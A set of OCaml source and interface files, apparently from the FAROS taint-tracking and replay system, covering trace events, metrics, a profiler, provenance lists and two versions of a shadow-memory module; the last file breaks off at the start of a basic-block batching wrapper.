  edges:int ->
  slice_nodes:int ->
  slice_origins:int ->
  netflow_origin:bool ->
  unit
