(** Structured trace events through a pluggable sink.

    Instrumented layers guard every emission with {!enabled}:

    {[ if Trace.enabled sink then Trace.emit sink ~cat ~name ~pid args ]}

    so the disabled sink ({!null}) costs one branch and allocates
    nothing.  The {!collector} sink buffers events (bounded; overflow is
    counted in {!dropped}) and {!to_chrome_json} exports them in Chrome's
    trace_event format for chrome://tracing / Perfetto.

    Timestamps come from the sink's clock — the FAROS plugin points it at
    the kernel tick counter, the only meaningful time base a
    deterministic replay has. *)

type arg = Int of int | Str of string | Bool of bool

type event = {
  ev_name : string;
  ev_cat : string;
  ev_ts : int;  (** kernel tick at emission *)
  ev_pid : int;  (** process domain: guest pid/asid, or farm worker index *)
  ev_tid : int;  (** thread lane within the domain; defaults to [ev_pid] *)
  ev_args : (string * arg) list;
}

type t

val null : t
(** The disabled sink: {!enabled} is [false], {!emit} is a no-op. *)

val collector : ?limit:int -> unit -> t
(** A buffering sink holding at most [limit] events (default 1e6). *)

val enabled : t -> bool

val set_clock : t -> (unit -> int) -> unit
(** Set the timestamp source (no-op on {!null}). *)

val emit :
  t ->
  ?tid:int ->
  ?ts:int ->
  cat:string ->
  name:string ->
  pid:int ->
  (string * arg) list ->
  unit
(** [tid] defaults to [pid]; [ts] defaults to the sink clock. *)

val add_event : t -> event -> unit
(** Buffer a pre-built event verbatim (bounded, drops counted) — used to
    fold per-job collectors into a campaign-wide trace with rewritten
    pid/tid lanes. *)

val events : t -> event list
(** Collected events, oldest first (empty for {!null}). *)

val by_category : t -> string -> event list
val count : t -> int
val dropped : t -> int

val arg_json : arg -> string
(** One argument value as a JSON fragment. *)

val to_chrome_json : t -> string
(** The whole buffer as a Chrome trace_event JSON document.  [pid] and
    [tid] are emitted as distinct fields, so campaign traces (worker
    index in pid, guest pid in tid) render one lane per worker. *)
