(* The metrics registry.

   Named counters, gauges and log2-bucketed histograms.  The hot path —
   incrementing a counter, setting a gauge, observing a histogram value —
   is a mutable-int write into an already-registered metric: O(1), no
   allocation, no hashtable lookup.  Registration (the name lookup) happens
   once, at construction time of whatever owns the metric.

   The registry itself is only touched when rendering: [pp_table] and
   [to_json] walk the name table in sorted order, so output is
   deterministic regardless of registration order. *)

type counter = { mutable c_val : int }
type gauge = { mutable g_val : int }

(* Bucket 0 counts observations <= 0; bucket k (k >= 1) counts values v
   with 2^(k-1) <= v < 2^k.  OCaml ints fit in 63 buckets; 48 covers any
   count this system can produce. *)
let histogram_buckets = 48

type histogram = { buckets : int array; mutable h_sum : int }

type metric =
  | Counter of counter
  | Gauge of gauge
  | Histogram of histogram

type t = { tbl : (string, metric) Hashtbl.t }

let create () = { tbl = Hashtbl.create 32 }

let register t name wrap make describe =
  match Hashtbl.find_opt t.tbl name with
  | None ->
    let m = make () in
    Hashtbl.replace t.tbl name (wrap m);
    m
  | Some existing -> (
    match describe existing with
    | Some m -> m
    | None ->
      invalid_arg
        (Printf.sprintf "Metrics: %S already registered with another kind" name))

let counter t name =
  register t name
    (fun c -> Counter c)
    (fun () -> { c_val = 0 })
    (function Counter c -> Some c | _ -> None)

let gauge t name =
  register t name
    (fun g -> Gauge g)
    (fun () -> { g_val = 0 })
    (function Gauge g -> Some g | _ -> None)

let histogram t name =
  register t name
    (fun h -> Histogram h)
    (fun () -> { buckets = Array.make histogram_buckets 0; h_sum = 0 })
    (function Histogram h -> Some h | _ -> None)

(* -- hot path -- *)

let incr c = c.c_val <- c.c_val + 1
let add c n = c.c_val <- c.c_val + n
let counter_value c = c.c_val

let set g v = g.g_val <- v
let gauge_value g = g.g_val

(* Index of the log2 bucket for [v]: 0 for v <= 0, otherwise one more
   than the position of v's highest set bit, capped at the last bucket. *)
let bucket_of v =
  if v <= 0 then 0
  else begin
    let b = ref 0 and v = ref v in
    while !v > 0 do
      v := !v lsr 1;
      b := !b + 1
    done;
    min !b (histogram_buckets - 1)
  end

let observe h v =
  h.buckets.(bucket_of v) <- h.buckets.(bucket_of v) + 1;
  h.h_sum <- h.h_sum + v

let histogram_count h = Array.fold_left ( + ) 0 h.buckets
let histogram_sum h = h.h_sum

(* Nonzero buckets as [(lo, hi, count)] with hi exclusive; bucket 0 is
   rendered as (min_int, 1, n). *)
let histogram_bucket_list h =
  let acc = ref [] in
  for k = histogram_buckets - 1 downto 0 do
    if h.buckets.(k) > 0 then
      let lo = if k = 0 then min_int else 1 lsl (k - 1)
      and hi = if k = 0 then 1 else 1 lsl k in
      acc := (lo, hi, h.buckets.(k)) :: !acc
  done;
  !acc

(* -- merging -- *)

let sorted_entries_of tbl =
  Hashtbl.fold (fun name m acc -> (name, m) :: acc) tbl []
  |> List.sort (fun (a, _) (b, _) -> compare a b)

(* Fold [src] into [into], by name: counters and histograms add, gauges
   add too (a merged gauge is a campaign-wide total).  Addition is
   commutative and associative, so merging per-worker registries gives
   the same campaign registry regardless of job completion order.  A
   name registered with different kinds in the two registries raises. *)
let merge ~into src =
  List.iter
    (fun (name, m) ->
      match m with
      | Counter c -> add (counter into name) c.c_val
      | Gauge g ->
        let dst = gauge into name in
        set dst (gauge_value dst + g.g_val)
      | Histogram h ->
        let dst = histogram into name in
        Array.iteri (fun k n -> dst.buckets.(k) <- dst.buckets.(k) + n) h.buckets;
        dst.h_sum <- dst.h_sum + h.h_sum)
    (sorted_entries_of src.tbl)

(* -- rendering -- *)

let sorted_entries t = sorted_entries_of t.tbl

let fold t f init =
  List.fold_left (fun acc (name, m) -> f acc name m) init (sorted_entries t)

let pp_histogram ppf h =
  Fmt.pf ppf "n=%d sum=%d" (histogram_count h) (histogram_sum h);
  List.iter
    (fun (lo, hi, n) ->
      if lo = min_int then Fmt.pf ppf " (..0]:%d" n
      else Fmt.pf ppf " [%d,%d):%d" lo hi n)
    (histogram_bucket_list h)

let pp_table ppf t =
  Fmt.pf ppf "%-36s %-10s %s@." "metric" "kind" "value";
  List.iter
    (fun (name, m) ->
      match m with
      | Counter c -> Fmt.pf ppf "%-36s %-10s %d@." name "counter" c.c_val
      | Gauge g -> Fmt.pf ppf "%-36s %-10s %d@." name "gauge" g.g_val
      | Histogram h ->
        Fmt.pf ppf "%-36s %-10s %a@." name "histogram" pp_histogram h)
    (sorted_entries t)

let to_json t =
  let entry (name, m) =
    match m with
    | Counter c ->
      Printf.sprintf {|{"name":"%s","kind":"counter","value":%d}|}
        (Json.escape name) c.c_val
    | Gauge g ->
      Printf.sprintf {|{"name":"%s","kind":"gauge","value":%d}|}
        (Json.escape name) g.g_val
    | Histogram h ->
      let buckets =
        histogram_bucket_list h
        |> List.map (fun (lo, hi, n) ->
               Printf.sprintf {|{"lo":%d,"hi":%d,"count":%d}|}
                 (if lo = min_int then 0 else lo)
                 hi n)
        |> String.concat ","
      in
      Printf.sprintf
        {|{"name":"%s","kind":"histogram","count":%d,"sum":%d,"buckets":[%s]}|}
        (Json.escape name) (histogram_count h) (histogram_sum h) buckets
  in
  Printf.sprintf {|{"metrics":[%s]}|}
    (String.concat "," (List.map entry (sorted_entries t)))
