(** Tick-sampled time series: a fixed-capacity ring buffer of integer
    rows over a shared column set.

    When the buffer is full the oldest rows are overwritten, keeping a
    bounded recent window plus the total sample count — a replay of any
    length samples in O(capacity) memory. *)

type t

val create : capacity:int -> columns:string list -> t
(** Raises [Invalid_argument] on a non-positive capacity or empty column
    list. *)

val columns : t -> string list
val capacity : t -> int

val sample : t -> int array -> unit
(** Append one row (copied).  Raises [Invalid_argument] if the row arity
    does not match the column count. *)

val total : t -> int
(** Samples ever taken, including overwritten ones. *)

val length : t -> int
(** Rows currently retained: [min total capacity]. *)

val get : t -> int -> int array
(** The [i]-th oldest retained row (a copy). *)

val rows : t -> int array list
(** All retained rows, oldest first. *)

val last : t -> int array option

val column : t -> string -> int list
(** One column's retained values, oldest first.  Raises
    [Invalid_argument] on an unknown column name. *)

val to_csv : t -> string
(** Header line plus one comma-separated line per retained row. *)

val to_json : t -> string
(** [{"columns":[...],"total_samples":n,"rows":[[...],...]}]. *)
