(** Hierarchical span profiler.

    Nestable named spans aggregated into a call tree keyed on the full
    parent chain: entering ["vm.step"] under ["replay"] and under
    ["record"] produces two distinct nodes.  Each node accumulates call
    count, inclusive wall time, and minor/major GC allocation-word
    deltas; self time is derived at render time.

    {!disabled} is a constant: instrumentation points guarded by it cost
    one branch and allocate nothing, so they can live in per-instruction
    hot paths unconditionally.  The clock is injectable for
    deterministic tests.  Enabled-mode measurements include the
    profiler's own overhead (a frame allocation and two clock/GC reads
    per span). *)

type t

type span = {
  sp_path : string;  (** ["replay/vm.step"] — path from the root *)
  sp_name : string;
  sp_depth : int;  (** 0 for top-level spans *)
  sp_count : int;
  sp_total_ns : int;  (** inclusive *)
  sp_self_ns : int;  (** total minus children's totals, clamped at 0 *)
  sp_minor_words : int;  (** inclusive minor-heap words allocated *)
  sp_major_words : int;  (** inclusive major-heap words allocated *)
  sp_self_minor_words : int;
}

val disabled : t
(** The zero-cost profiler: every operation is a single branch. *)

val create : ?clock:(unit -> int) -> unit -> t
(** An enabled profiler. [clock] returns monotonically non-decreasing
    nanoseconds; the default reads wall time. Inject a fake for
    deterministic tests. *)

val enabled : t -> bool

val enter : t -> string -> unit
(** Open a span named [name] nested under the currently open span. *)

val exit : t -> unit
(** Close the innermost open span. Unbalanced exits are ignored. *)

val with_span : t -> string -> (unit -> 'a) -> 'a
(** [with_span t name f] runs [f] inside a span, closing it on
    exceptions too. On {!disabled} this is exactly [f ()]. *)

val spans : t -> span list
(** Preorder walk, children in first-entered order — deterministic for a
    deterministic workload regardless of clock readings. Empty for
    {!disabled}. *)

val total_ns : t -> int
(** Sum of the top-level spans' inclusive times: the coverage
    denominator. *)

val merge : into:t -> t -> unit
(** Fold the second tree into [into], adding counts/times/allocation at
    matching paths and creating missing nodes. Commutative and
    associative in the accumulated numbers; used to fold per-job
    profiles into a campaign-wide table. No-op if either side is
    {!disabled}. *)

val pp_tree : Format.formatter -> t -> unit
(** Indented call tree, first-entered order. *)

val pp_hotspots : ?top:int -> Format.formatter -> t -> unit
(** Flat table sorted by self time descending (ties by path), with a
    self% column against {!total_ns}. [top] defaults to 20. *)

val to_json : t -> string
