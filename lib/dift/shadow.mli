(** Shadow state: provenance for guest memory, registers and flags.

    Shadow memory is keyed by {e physical} address and is byte granular.
    It is a two-level page table — a directory from page number to 4 KiB
    pages of interned provenance ids ({!Prov_intern}), id 0 meaning empty —
    so reads and writes are int-array accesses and {!tainted_bytes} is a
    counter read.  Shadow registers are per address space (one guest CPU
    per process) at whole-register granularity — a documented
    simplification over the paper's byte-granular memory.  Shadow flags
    feed the control-dependency policy. *)

type t

val page_size : int
(** Bytes per shadow page (4096). *)

val page_shift : int
(** [log2 page_size] (12): [paddr lsr page_shift] is a shadow page number. *)

val create :
  ?trace:Faros_obs.Trace.t -> ?interner:Prov_intern.store -> unit -> t
(** [trace] receives a ["page_alloc"] event (category ["shadow"]) each
    time a shadow page materializes; defaults to the disabled sink.
    [interner] is the {!Prov_intern.store} the page ids resolve against
    (default: the calling domain's current store); provenance written
    into this shadow must be interned under that same store. *)

val interner : t -> Prov_intern.store
(** The store this shadow's ids resolve against. *)

val get_mem : t -> int -> Provenance.t
(** Provenance of the byte at a physical address (empty if untracked). *)

val set_mem : t -> int -> Provenance.t -> unit
(** Setting an empty provenance clears the entry (never allocates). *)

val get_reg : t -> asid:int -> int -> Provenance.t
val set_reg : t -> asid:int -> int -> Provenance.t -> unit

val get_flags : t -> asid:int -> Provenance.t
val set_flags : t -> asid:int -> Provenance.t -> unit

val get_mem_range : t -> int -> int -> Provenance.t
(** [get_mem_range t paddr width] is the union over [width] bytes. *)

val set_mem_range : t -> int -> int -> Provenance.t -> unit

val tainted_bytes : t -> int
(** Number of bytes currently carrying non-empty provenance (O(1)). *)

val tainted_regs : t -> int

val pages : t -> int
(** Number of shadow pages materialized so far. *)

val page_tainted_bytes : t -> int -> int
(** [page_tainted_bytes t paddr] is the number of non-empty bytes on the
    4 KiB shadow page containing [paddr] — one hashtable probe (0 for a
    never-materialized page).  Kept exact on every mutation path; the
    property suite cross-checks it against a brute-force page scan. *)

val page_tainted : t -> int -> bool
(** [page_tainted t paddr]: does the shadow page containing [paddr] carry
    any taint at all?  The fast-path pre-check's O(1) page probe. *)

val byte_tainted : t -> int -> bool
(** Is this byte's provenance non-empty?  One probe plus an array read —
    the byte-exact refinement used when a page probe says "live" but the
    taint may not be under the bytes that matter (guest images pack data
    buffers onto the same pages as code). *)

val range_tainted : t -> int -> int -> bool
(** [range_tainted t paddr width]: any taint under these bytes?  A page
    probe per page touched, scanning only live pages. *)

val generation : t -> int
(** Monotonic counter of {e shadow mutations}: any byte's interned id
    changing (taint created, cleared or re-tagged), a register or the
    flags crossing empty/non-empty, {!clear}, or an explicit
    {!bump_generation}.  Consumers caching shadow-derived per-block facts
    (the DIFT fast path's verdicts and converged fetch provenance)
    revalidate when this moves.  Writing a byte the id it already has is
    not a mutation, so converged hot loops leave the counter still. *)

val bump_generation : t -> unit
(** Force-invalidate cached untainted verdicts (the engine calls this when
    a control-dependency window opens — taint state the shadow tables do
    not see). *)

val iter_mem : t -> (int -> Provenance.t -> unit) -> unit

val clear : t -> unit
