(** Shadow state: provenance for guest memory, registers and flags.

    Shadow memory is keyed by {e physical} address and is byte granular.
    It is a two-level page table — a directory from page number to 4 KiB
    pages of interned provenance ids ({!Prov_intern}), id 0 meaning empty —
    so reads and writes are int-array accesses and {!tainted_bytes} is a
    counter read.  Shadow registers are per address space (one guest CPU
    per process) at whole-register granularity — a documented
    simplification over the paper's byte-granular memory.  Shadow flags
    feed the control-dependency policy. *)

type t

val page_size : int
(** Bytes per shadow page (4096). *)

val create :
  ?trace:Faros_obs.Trace.t -> ?interner:Prov_intern.store -> unit -> t
(** [trace] receives a ["page_alloc"] event (category ["shadow"]) each
    time a shadow page materializes; defaults to the disabled sink.
    [interner] is the {!Prov_intern.store} the page ids resolve against
    (default: the calling domain's current store); provenance written
    into this shadow must be interned under that same store. *)

val interner : t -> Prov_intern.store
(** The store this shadow's ids resolve against. *)

val get_mem : t -> int -> Provenance.t
(** Provenance of the byte at a physical address (empty if untracked). *)

val set_mem : t -> int -> Provenance.t -> unit
(** Setting an empty provenance clears the entry (never allocates). *)

val get_reg : t -> asid:int -> int -> Provenance.t
val set_reg : t -> asid:int -> int -> Provenance.t -> unit

val get_flags : t -> asid:int -> Provenance.t
val set_flags : t -> asid:int -> Provenance.t -> unit

val get_mem_range : t -> int -> int -> Provenance.t
(** [get_mem_range t paddr width] is the union over [width] bytes. *)

val set_mem_range : t -> int -> int -> Provenance.t -> unit

val tainted_bytes : t -> int
(** Number of bytes currently carrying non-empty provenance (O(1)). *)

val tainted_regs : t -> int

val pages : t -> int
(** Number of shadow pages materialized so far. *)

val iter_mem : t -> (int -> Provenance.t -> unit) -> unit

val clear : t -> unit
