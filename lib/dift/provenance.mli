(** Provenance lists (Fig. 4): ordered tag lists, newest first.

    A byte's provenance is its life story — "came from this netflow, was
    touched by this process, then that one".  Values are the hash-consed
    lists of {!Prov_intern}: every distinct list exists once, so Table I's
    copy rule is a pointer assignment, {!equal} is physical equality,
    {!prepend}/{!union} are memoized, and the type-membership queries are
    cached bitmask reads.  {!max_length} bounds the memory an adversary
    could force by generating enormous tag chains (the "exhaust FAROS'
    memory" evasion of Section VI-D); the cap drops the oldest entries. *)

type t = Prov_intern.t

val empty : t
val is_empty : t -> bool

val max_length : int
(** Upper bound on list length; prepend/union enforce it. *)

val equal : t -> t -> bool
(** Physical equality, valid because lists are interned. *)

val length : t -> int

val of_list : Tag.t list -> t
(** Intern a newest-first tag list (capped to {!max_length}). *)

val to_list : t -> Tag.t list
(** The tags, newest first. *)

val head : t -> Tag.t option
(** The newest tag (O(1), no allocation beyond the option).  By the
    {!prepend} semantics, [head p = Some tag] implies [prepend tag p]
    returns [p] itself — how the DIFT fast path proves a process's fetch
    touch has converged without minting any tags. *)

val singleton : Tag.t -> t

val prepend : Tag.t -> t -> t
(** [prepend tag p] puts [tag] at the head (newest position).  A no-op
    when [tag] is already the head, so hot loops do not grow lists; when
    [tag] is present deeper in the list it is moved to the front rather
    than duplicated, so alternating re-touches cannot evict origin tags. *)

val union : t -> t -> t
(** Table I's union: [union a b] keeps [a]'s order and appends the tags of
    [b] not already present. *)

val mem : Tag.t -> t -> bool
val has_type : Tag.ty -> t -> bool
val has_netflow : t -> bool
val has_export : t -> bool
val has_file : t -> bool

val process_indices : t -> int list
(** Distinct process-tag indices, newest first. *)

val netflow_indices : t -> int list
val file_indices : t -> int list

val distinct_types : t -> Tag.ty list

val confluence : t -> int
(** Number of distinct tag {e types} present — the "tag confluence" of
    Section IV that the detection policy keys on.  O(1): a popcount of
    the bitmask cached on the interned node. *)

val distinct_process_count : t -> int
(** Number of distinct process-tag indices, cached at intern time — the
    other integer the flagging rule compares. *)

val pp : t Fmt.t
