(* Shadow state: provenance for guest memory, registers and flags.

   Shadow memory is keyed by *physical* address and is byte granular; it
   is a two-level page table: a directory from page number to 4 KiB pages,
   each page an int array of interned provenance ids (Prov_intern), with
   0 — the empty provenance — meaning "untracked".  Pages materialize on
   first taint and a running counter tracks non-empty bytes, so
   tainted_bytes is O(1).  Shadow registers are per address space (one
   guest CPU per process) at whole-register granularity — a documented
   simplification over the paper's byte-granular memory.  Shadow flags
   feed the control-dependency policy. *)

let page_shift = 12
let page_size = 1 lsl page_shift  (* bytes per shadow page *)

type t = {
  mem_dir : (int, int array) Hashtbl.t;  (* page number -> interned ids *)
  mutable mem_tainted : int;  (* bytes with a non-empty provenance *)
  regs : (int, Provenance.t) Hashtbl.t;  (* asid * num_regs + reg *)
  flags : (int, Provenance.t) Hashtbl.t;  (* asid -> provenance *)
  trace : Faros_obs.Trace.t;  (* page-allocation events *)
  interner : Prov_intern.store;  (* the store the page ids resolve against *)
}

let create ?(trace = Faros_obs.Trace.null)
    ?(interner = Prov_intern.current_store ()) () =
  {
    mem_dir = Hashtbl.create 64;
    mem_tainted = 0;
    regs = Hashtbl.create 64;
    flags = Hashtbl.create 8;
    trace;
    interner;
  }

let interner t = t.interner

let get_mem t paddr =
  match Hashtbl.find_opt t.mem_dir (paddr lsr page_shift) with
  | None -> Provenance.empty
  | Some page -> Prov_intern.resolve t.interner page.(paddr land (page_size - 1))

let page_for t pno =
  match Hashtbl.find_opt t.mem_dir pno with
  | Some page -> page
  | None ->
    let page = Array.make page_size 0 in
    Hashtbl.replace t.mem_dir pno page;
    if Faros_obs.Trace.enabled t.trace then
      Faros_obs.Trace.emit t.trace ~cat:"shadow" ~name:"page_alloc" ~pid:0
        [ ("page", Int pno); ("base", Int (pno lsl page_shift)) ];
    page

(* Write one byte's id into a page, maintaining the taint counter.  An
   empty write never materializes a page. *)
let set_slot t page off id =
  let old = page.(off) in
  if old <> id then begin
    page.(off) <- id;
    if old = 0 then t.mem_tainted <- t.mem_tainted + 1
    else if id = 0 then t.mem_tainted <- t.mem_tainted - 1
  end

let set_mem t paddr prov =
  let id = Prov_intern.id prov in
  let pno = paddr lsr page_shift and off = paddr land (page_size - 1) in
  if id = 0 then (
    match Hashtbl.find_opt t.mem_dir pno with
    | None -> ()
    | Some page -> set_slot t page off 0)
  else set_slot t (page_for t pno) off id

let reg_key asid reg = (asid * Faros_vm.Isa.num_regs) + reg

let get_reg t ~asid reg =
  match Hashtbl.find_opt t.regs (reg_key asid reg) with
  | Some p -> p
  | None -> Provenance.empty

let set_reg t ~asid reg prov =
  if Provenance.is_empty prov then Hashtbl.remove t.regs (reg_key asid reg)
  else Hashtbl.replace t.regs (reg_key asid reg) prov

let get_flags t ~asid =
  match Hashtbl.find_opt t.flags asid with Some p -> p | None -> Provenance.empty

let set_flags t ~asid prov =
  if Provenance.is_empty prov then Hashtbl.remove t.flags asid
  else Hashtbl.replace t.flags asid prov

(* Union of the provenance of [width] bytes starting at [paddr].  One
   directory lookup per page touched (accesses are small; at most two
   pages), then straight int-array reads; absent pages contribute
   nothing, and the per-id union is memoized by Prov_intern. *)
let get_mem_range t paddr width =
  let acc = ref Provenance.empty in
  let i = ref 0 in
  while !i < width do
    let a = paddr + !i in
    let pno = a lsr page_shift and off = a land (page_size - 1) in
    (* bytes of this access that fall inside this page *)
    let chunk = min (width - !i) (page_size - off) in
    (match Hashtbl.find_opt t.mem_dir pno with
    | None -> ()
    | Some page ->
      for j = off to off + chunk - 1 do
        let id = page.(j) in
        if id <> 0 then
          acc := Provenance.union !acc (Prov_intern.resolve t.interner id)
      done);
    i := !i + chunk
  done;
  !acc

let set_mem_range t paddr width prov =
  let id = Prov_intern.id prov in
  let i = ref 0 in
  while !i < width do
    let a = paddr + !i in
    let pno = a lsr page_shift and off = a land (page_size - 1) in
    let chunk = min (width - !i) (page_size - off) in
    (match (Hashtbl.find_opt t.mem_dir pno, id) with
    | None, 0 -> ()  (* clearing an untracked page: nothing to do *)
    | None, _ ->
      let page = page_for t pno in
      Array.fill page off chunk id;
      t.mem_tainted <- t.mem_tainted + chunk
    | Some page, _ ->
      for j = off to off + chunk - 1 do
        set_slot t page j id
      done);
    i := !i + chunk
  done

let tainted_bytes t = t.mem_tainted
let tainted_regs t = Hashtbl.length t.regs
let pages t = Hashtbl.length t.mem_dir

let iter_mem t f =
  Hashtbl.iter
    (fun pno page ->
      let base = pno lsl page_shift in
      Array.iteri
        (fun off id ->
          if id <> 0 then f (base + off) (Prov_intern.resolve t.interner id))
        page)
    t.mem_dir

let clear t =
  Hashtbl.reset t.mem_dir;
  t.mem_tainted <- 0;
  Hashtbl.reset t.regs;
  Hashtbl.reset t.flags
