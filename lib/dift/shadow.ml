(* Shadow state: provenance for guest memory, registers and flags.

   Shadow memory is keyed by *physical* address and is byte granular; it
   is a two-level page table: a directory from page number to 4 KiB pages,
   each page an int array of interned provenance ids (Prov_intern), with
   0 — the empty provenance — meaning "untracked".  Pages materialize on
   first taint; every page carries a count of its non-empty bytes, so the
   demand-driven fast path can ask "is anything on this page tainted?" in
   one hashtable probe, and a running global counter makes tainted_bytes
   O(1).  Shadow registers are per address space (one guest CPU per
   process) at whole-register granularity — a documented simplification
   over the paper's byte-granular memory.  Shadow flags feed the
   control-dependency policy.

   The [gen] counter increments on every observable shadow mutation: any
   byte's interned id changing (creation, clearing, or re-tagging alike),
   a register or the flags crossing empty/non-empty, [clear], and a
   control-dependency window opening (the engine bumps it explicitly).
   Mutations, not just creations, because the fast path caches more than
   emptiness: it caches the *fetch provenance* of converged code bytes,
   which goes stale when a byte is re-tagged or cleared, and a cached
   "run" verdict computed while a register was tainted must be revisited
   once the register is cleared or it pins hot blocks to the slow path
   forever.  Converged steady state writes the id a byte already has,
   which is not a mutation, so hot loops do not churn the counter. *)

let page_shift = 12
let page_size = 1 lsl page_shift  (* bytes per shadow page *)

type page = {
  data : int array;  (* interned ids, 0 = untracked *)
  mutable live : int;  (* non-empty bytes on this page *)
}

type t = {
  mem_dir : (int, page) Hashtbl.t;  (* page number -> shadow page *)
  mutable mem_tainted : int;  (* bytes with a non-empty provenance *)
  mutable gen : int;  (* bumped on every taint-creation event *)
  regs : (int, Provenance.t) Hashtbl.t;  (* asid * num_regs + reg *)
  flags : (int, Provenance.t) Hashtbl.t;  (* asid -> provenance *)
  trace : Faros_obs.Trace.t;  (* page-allocation events *)
  interner : Prov_intern.store;  (* the store the page ids resolve against *)
}

let create ?(trace = Faros_obs.Trace.null)
    ?(interner = Prov_intern.current_store ()) () =
  {
    mem_dir = Hashtbl.create 64;
    mem_tainted = 0;
    gen = 0;
    regs = Hashtbl.create 64;
    flags = Hashtbl.create 8;
    trace;
    interner;
  }

let interner t = t.interner

let generation t = t.gen
let bump_generation t = t.gen <- t.gen + 1

let get_mem t paddr =
  match Hashtbl.find_opt t.mem_dir (paddr lsr page_shift) with
  | None -> Provenance.empty
  | Some page ->
    Prov_intern.resolve t.interner page.data.(paddr land (page_size - 1))

let page_for t pno =
  match Hashtbl.find_opt t.mem_dir pno with
  | Some page -> page
  | None ->
    let page = { data = Array.make page_size 0; live = 0 } in
    Hashtbl.replace t.mem_dir pno page;
    if Faros_obs.Trace.enabled t.trace then
      Faros_obs.Trace.emit t.trace ~cat:"shadow" ~name:"page_alloc" ~pid:0
        [ ("page", Int pno); ("base", Int (pno lsl page_shift)) ];
    page

(* Write one byte's id into a page, maintaining the per-page and global
   taint counters and the generation.  An empty write never materializes
   a page. *)
let set_slot t page off id =
  let old = page.data.(off) in
  if old <> id then begin
    t.gen <- t.gen + 1;
    page.data.(off) <- id;
    if old = 0 then begin
      page.live <- page.live + 1;
      t.mem_tainted <- t.mem_tainted + 1
    end
    else if id = 0 then begin
      page.live <- page.live - 1;
      t.mem_tainted <- t.mem_tainted - 1
    end
  end

let set_mem t paddr prov =
  let id = Prov_intern.id prov in
  let pno = paddr lsr page_shift and off = paddr land (page_size - 1) in
  if id = 0 then (
    match Hashtbl.find_opt t.mem_dir pno with
    | None -> ()
    | Some page -> set_slot t page off 0)
  else set_slot t (page_for t pno) off id

let reg_key asid reg = (asid * Faros_vm.Isa.num_regs) + reg

let get_reg t ~asid reg =
  match Hashtbl.find_opt t.regs (reg_key asid reg) with
  | Some p -> p
  | None -> Provenance.empty

let set_reg t ~asid reg prov =
  let key = reg_key asid reg in
  if Provenance.is_empty prov then begin
    if Hashtbl.mem t.regs key then begin
      t.gen <- t.gen + 1;
      Hashtbl.remove t.regs key
    end
  end
  else begin
    if not (Hashtbl.mem t.regs key) then t.gen <- t.gen + 1;
    Hashtbl.replace t.regs key prov
  end

let get_flags t ~asid =
  match Hashtbl.find_opt t.flags asid with Some p -> p | None -> Provenance.empty

let set_flags t ~asid prov =
  if Provenance.is_empty prov then begin
    if Hashtbl.mem t.flags asid then begin
      t.gen <- t.gen + 1;
      Hashtbl.remove t.flags asid
    end
  end
  else begin
    if not (Hashtbl.mem t.flags asid) then t.gen <- t.gen + 1;
    Hashtbl.replace t.flags asid prov
  end

(* Union of the provenance of [width] bytes starting at [paddr].  One
   directory lookup per page touched (accesses are small; at most two
   pages), then straight int-array reads; absent pages contribute
   nothing, and the per-id union is memoized by Prov_intern. *)
let get_mem_range t paddr width =
  let acc = ref Provenance.empty in
  let i = ref 0 in
  while !i < width do
    let a = paddr + !i in
    let pno = a lsr page_shift and off = a land (page_size - 1) in
    (* bytes of this access that fall inside this page *)
    let chunk = min (width - !i) (page_size - off) in
    (match Hashtbl.find_opt t.mem_dir pno with
    | None -> ()
    | Some page ->
      if page.live > 0 then
        for j = off to off + chunk - 1 do
          let id = page.data.(j) in
          if id <> 0 then
            acc := Provenance.union !acc (Prov_intern.resolve t.interner id)
        done);
    i := !i + chunk
  done;
  !acc

let set_mem_range t paddr width prov =
  let id = Prov_intern.id prov in
  let i = ref 0 in
  while !i < width do
    let a = paddr + !i in
    let pno = a lsr page_shift and off = a land (page_size - 1) in
    let chunk = min (width - !i) (page_size - off) in
    (match (Hashtbl.find_opt t.mem_dir pno, id) with
    | None, 0 -> ()  (* clearing an untracked page: nothing to do *)
    | None, _ ->
      (* Bulk fill of a just-materialized page: every slot was 0, so the
         counters move by exactly [chunk].  This fast path is only legal
         because [page_for] cannot return a pre-existing page here — the
         directory probe above came back empty. *)
      let page = page_for t pno in
      Array.fill page.data off chunk id;
      t.gen <- t.gen + 1;
      page.live <- page.live + chunk;
      t.mem_tainted <- t.mem_tainted + chunk
    | Some page, 0 when page.live = 0 -> ()  (* clearing a clean page *)
    | Some page, _ ->
      for j = off to off + chunk - 1 do
        set_slot t page j id
      done);
    i := !i + chunk
  done

let tainted_bytes t = t.mem_tainted
let tainted_regs t = Hashtbl.length t.regs
let pages t = Hashtbl.length t.mem_dir

let page_tainted_bytes t paddr =
  match Hashtbl.find_opt t.mem_dir (paddr lsr page_shift) with
  | None -> 0
  | Some page -> page.live

let page_tainted t paddr = page_tainted_bytes t paddr > 0

let byte_tainted t paddr =
  match Hashtbl.find_opt t.mem_dir (paddr lsr page_shift) with
  | None -> false
  | Some page -> page.live > 0 && page.data.(paddr land (page_size - 1)) <> 0

(* Any taint under [width] bytes at [paddr]?  One directory probe per
   page touched and a short int-array scan only on live pages — the
   byte-exact refinement behind the fast path's access checks (accesses
   are at most 8 bytes, so at most two probes). *)
let range_tainted t paddr width =
  let found = ref false in
  let i = ref 0 in
  while (not !found) && !i < width do
    let a = paddr + !i in
    let pno = a lsr page_shift and off = a land (page_size - 1) in
    let chunk = min (width - !i) (page_size - off) in
    (match Hashtbl.find_opt t.mem_dir pno with
    | None -> ()
    | Some page ->
      if page.live > 0 then begin
        let j = ref off in
        while (not !found) && !j < off + chunk do
          if page.data.(!j) <> 0 then found := true;
          incr j
        done
      end);
    i := !i + chunk
  done;
  !found

let iter_mem t f =
  Hashtbl.iter
    (fun pno page ->
      if page.live > 0 then begin
        let base = pno lsl page_shift in
        Array.iteri
          (fun off id ->
            if id <> 0 then f (base + off) (Prov_intern.resolve t.interner id))
          page.data
      end)
    t.mem_dir

let clear t =
  (* Reset, not clear: campaign jobs reuse shadows across samples, so
     materialized pages must not stay resident and the tables must give
     their capacity back — the regression test pins the empty-state
     baseline after taint+clear. *)
  Hashtbl.reset t.mem_dir;
  t.mem_tainted <- 0;
  t.gen <- t.gen + 1;
  Hashtbl.reset t.regs;
  Hashtbl.reset t.flags
