(** Basic-block batched processing.

    The paper's implementation receives instructions one basic block at a
    time (Section V-A); this wrapper reproduces that discipline over the
    same {!Engine}: effects buffer until the block ends (branch, syscall or
    halt) and are then processed in order.  Kernel events force a flush
    first.  Deferred processing is observationally equivalent to
    per-instruction processing — the test suite pins that equivalence on
    the attack corpus. *)

type t = {
  engine : Engine.t;
